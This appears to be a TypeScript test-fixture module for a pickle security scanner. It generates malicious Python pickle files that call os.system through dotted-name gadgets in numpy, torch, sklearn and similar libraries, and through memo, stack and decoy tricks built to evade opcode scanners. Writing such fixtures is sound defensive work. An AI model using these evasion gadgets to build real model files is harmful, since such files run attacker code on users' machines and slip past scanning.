/** Names that are put together where a scanner of opcodes does not look: dots, memo, stack. */
import { join } from '../bytes.ts';
import * as p from '../pickle-writer.ts';
import { COMMAND, type EvilFile, importing } from './evil-file.ts';

const CALL = join(p.binunicode(COMMAND), p.TUPLE1, p.REDUCE);
const dotted = (module: string, name: string) => () => p.pickle(4, p.stackGlobal(module, name), CALL);

/** The module is one that any model needs, and leads to another. */
const DOTTED: readonly (readonly [module: string, name: string])[] = [
  ['numpy', 'f2py.os.system'],
  ['numpy', 'os.system'],
  ['numpy.f2py', 'os.system'],
  ['sklearn', 'os.system'],
  ['sklearn.utils', 'os.system'],
  ['joblib', 'os.system'],
  ['joblib.numpy_pickle', 'os.system'],
  ['pandas', 'io.common.os.system'],
  ['torch', 'os.system'],
  ['torch', 'serialization.os.system'],
  ['collections', '_sys.modules.get'],
  ['collections', 'OrderedDict.__init__.__globals__.get'],
  ['numpy.random._pickle', '__builtins__.get'],
  ['code', 'InteractiveInterpreter.runcode'],
  ['idlelib.run', 'Executive.runcode'],
  ['pathlib', 'Path.write_text'],
  ['asyncio.unix_events', '_UnixSubprocessTransport._start'],
  ['xgboost', 'core.os.system'],
  ['lightgbm', 'basic.ctypes.CDLL'],
  ['scipy', 'os.system'],
];

const dottedFiles: EvilFile[] = DOTTED.map(([module, name]) => ({
  name: `${module}-${name}.pkl`,
  technique: 'a dotted name',
  gadget: `${module}.${name}`,
  rule: 'pickle-import',
  make: dotted(module, name),
}));

/** A dotted name under GLOBAL is looked up by its dots from protocol 4 on. */
const dottedGlobals: EvilFile[] = importing(
  'a dotted name',
  {
    'dotted-global.pkl': () => p.pickle(4, p.global('numpy', 'f2py.os.system'), CALL),
    'dotted-inst.pkl': () => p.pickle(4, p.MARK, p.binunicode(COMMAND), p.inst('numpy', 'f2py.os.system')),
    'dotted-obj.pkl': () =>
      p.pickle(4, p.MARK, p.stackGlobal('numpy', 'f2py.os.system'), p.binunicode(COMMAND), p.OBJ),
  },
  'numpy.f2py.os.system',
);

const os = p.shortBinunicode('os');
const system = p.shortBinunicode('system');
const decoy = join(p.shortBinunicode('collections'), p.shortBinunicode('OrderedDict'));

/** The last two texts before STACK_GLOBAL are not those that it takes. */
const MEMO: Record<string, () => Uint8Array> = {
  'put-get.pkl': () =>
    p.pickle(
      4,
      os,
      p.put(0),
      p.POP,
      system,
      p.put(1),
      p.POP,
      decoy,
      p.POP,
      p.POP,
      p.get(0),
      p.get(1),
      p.STACK_GLOBAL,
      CALL,
    ),
  'binput-binget.pkl': () =>
    p.pickle(
      4,
      system,
      p.binput(3),
      p.POP,
      os,
      p.binput(200),
      p.POP,
      p.binget(200),
      p.binget(3),
      p.STACK_GLOBAL,
      CALL,
    ),
  'long-binput.pkl': () =>
    p.pickle(
      4,
      os,
      p.longBinput(70_000),
      p.POP,
      system,
      p.longBinput(7),
      p.POP,
      p.longBinget(70_000),
      p.longBinget(7),
      p.STACK_GLOBAL,
      CALL,
    ),
  'memoize.pkl': () =>
    p.pickle(
      4,
      os,
      p.MEMOIZE,
      p.POP,
      system,
      p.MEMOIZE,
      p.POP,
      p.binget(0),
      p.binget(1),
      p.STACK_GLOBAL,
      CALL,
    ),
  'memoize-after-put.pkl': () =>
    p.pickle(
      4,
      system,
      p.put(5),
      p.POP,
      os,
      p.MEMOIZE,
      p.POP,
      p.binget(1),
      p.binget(5),
      p.STACK_GLOBAL,
      CALL,
    ),
  'overwritten-memo.pkl': () =>
    p.pickle(
      4,
      decoy,
      p.binput(1),
      p.POP,
      p.binput(0),
      p.POP,
      os,
      p.binput(0),
      p.POP,
      system,
      p.binput(1),
      p.POP,
      p.binget(0),
      p.binget(1),
      p.STACK_GLOBAL,
      CALL,
    ),
  'written-by-put-read-by-long.pkl': () =>
    p.pickle(
      4,
      os,
      p.put(12),
      p.POP,
      system,
      p.binput(13),
      p.POP,
      p.longBinget(12),
      p.get(13),
      p.STACK_GLOBAL,
      CALL,
    ),
  'popped-decoy.pkl': () => p.pickle(4, os, p.shortBinunicode('path'), p.POP, system, p.STACK_GLOBAL, CALL),
  'popped-mark.pkl': () => p.pickle(4, os, p.MARK, decoy, p.POP_MARK, system, p.STACK_GLOBAL, CALL),
  'mark-taken-by-pop.pkl': () => p.pickle(4, os, p.MARK, p.POP, system, p.STACK_GLOBAL, CALL),
  'decoy-between.pkl': () =>
    p.pickle(
      4,
      os,
      system,
      p.shortBinunicode('OrderedDict'),
      p.MARK,
      p.shortBinunicode('x'),
      p.POP_MARK,
      p.POP,
      p.STACK_GLOBAL,
      CALL,
    ),
  'long-texts.pkl': () => p.pickle(4, p.binunicode('os'), p.binunicode8('system'), p.STACK_GLOBAL, CALL),
  'a-line-of-text.pkl': () => p.pickle(4, p.line('os'), p.line('system'), p.STACK_GLOBAL, CALL),
  'escaped-letters.pkl': () => p.pickle(4, p.line('\\u006fs'), p.line('syst\\u0065m'), p.STACK_GLOBAL, CALL),
  'python-2-strings.pkl': () => p.pickle(4, p.quoted('os'), p.shortBinstring('system'), p.STACK_GLOBAL, CALL),
  'memoized-callable.pkl': () =>
    p.pickle(
      2,
      p.global('os', 'system'),
      p.binput(9),
      p.POP,
      p.global('collections', 'OrderedDict'),
      p.POP,
      p.binget(9),
      CALL,
    ),
  'memoized-call-repeated.pkl': () =>
    p.pickle(2, p.global('os', 'system'), p.DUP, p.POP, p.DUP, CALL, p.POP, p.POP, p.NONE),
};

/** Both names are one text that lies twice on the stack. */
const doubled: EvilFile = {
  name: 'doubled-name.pkl',
  technique: 'a name through memo or stack',
  gadget: 'timeit.timeit',
  rule: 'pickle-import',
  make: () =>
    p.pickle(4, p.shortBinunicode('timeit'), p.DUP, p.STACK_GLOBAL, p.texts("print('scanned')"), p.REDUCE),
};

/** A name that only running the pickle would tell. */
const unresolved = (name: string, ...parts: readonly Uint8Array[]): EvilFile => ({
  name,
  technique: 'a name that cannot be known',
  gadget: 'a computed name',
  rule: 'pickle-import-unresolved',
  make: () => p.pickle(4, ...parts, p.STACK_GLOBAL, CALL),
});

const COMPUTED: readonly EvilFile[] = [
  unresolved(
    'computed-name.pkl',
    join(os, p.stackGlobal('_codecs', 'encode'), p.texts('system', 'latin1'), p.REDUCE),
  ),
  unresolved(
    'computed-module.pkl',
    join(p.global('collections', 'OrderedDict'), p.EMPTY_TUPLE, p.REDUCE, system),
  ),
];

export const HIDDEN_NAMES: readonly EvilFile[] = [
  ...dottedFiles,
  ...dottedGlobals,
  ...importing('a name through memo or stack', MEMO),
  doubled,
  ...COMPUTED,
];
